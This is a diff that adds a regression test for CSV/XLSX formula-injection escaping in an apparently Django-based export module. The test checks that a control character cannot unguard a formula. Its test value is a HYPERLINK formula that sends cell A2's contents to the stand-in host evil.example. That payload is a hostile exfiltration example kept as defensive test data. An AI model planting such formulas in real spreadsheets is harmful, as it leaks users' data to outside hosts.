@@ -55,6 +55,20 @@ def test_text_that_would_run_as_a_formula_is_neutralised(demo):
     assert sheet["B2"].value == "'-2+3"  # the control character is dropped, not an error
 
 
+def test_a_control_character_before_a_formula_does_not_unguard_it_in_xlsx(demo):
+    """The control character was dropped after the apostrophe was decided: "\x01=..." became
+    a live formula in the workbook."""
+    enterprise = demo["users"]["enterprise-jiangnan"].enterprise
+    Enterprise.objects.filter(pk=enterprise.pk).update(
+        industry='\x01=HYPERLINK("http://evil.example/?leak="&A2,"Click")'
+    )
+    queryset = Enterprise.objects.filter(pk=enterprise.pk)
+    buffer = io.BytesIO()
+    exports.write_xlsx(_export(queryset, [Column("Industry", "industry")]), buffer)
+    cell = load_workbook(io.BytesIO(buffer.getvalue())).worksheets[0]["A2"]
+    assert cell.data_type == "s" and cell.value.startswith("'=HYPERLINK")
+
+
 def test_xlsx_keeps_dates_and_local_times(demo):
     from vouchers.models import Voucher
 
